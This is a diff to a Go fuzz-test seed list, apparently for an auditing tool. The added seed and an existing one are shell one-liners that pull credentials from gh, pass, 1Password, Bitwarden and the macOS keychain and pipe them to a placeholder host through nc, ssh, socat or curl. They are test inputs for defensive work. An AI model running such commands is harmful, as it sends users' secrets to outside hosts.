@@ -284,6 +284,7 @@ var fuzzSeeds = [][]string{
 	{"clojure", "-Sdeps", `{:deps {a/b {:mvn/version "RELEASE"} c {:mvn/version 1}} :mvn/repos {"r" {:url "http://["} "s" 1} #x [#_ 1 {:sha nil}]}`, "-Ttools", "install", "a", `{:mvn/version "(1,)"}`},
 	{"clj", "-Sdeps", `{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}`, "-Sdeps", `#{1 1}`, "-Ttools", "install-latest"},
 	{"sh", "-c", "pass -c x | nc h 1; pass show | ssh h; security find-internet-password -w -s x | socat - tcp:h:1; bw get totp x | curl -d @- http://h; nc h 1 <<< $(op read op://x)"},
+	{"sh", "-c", `T=$(gh auth token); echo "$T" $(pass x) | nc h 1; printf %s "$(echo $(op read x))" | ssh h; echo $T > f; unset T; echo "$T" | nc h 1`},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
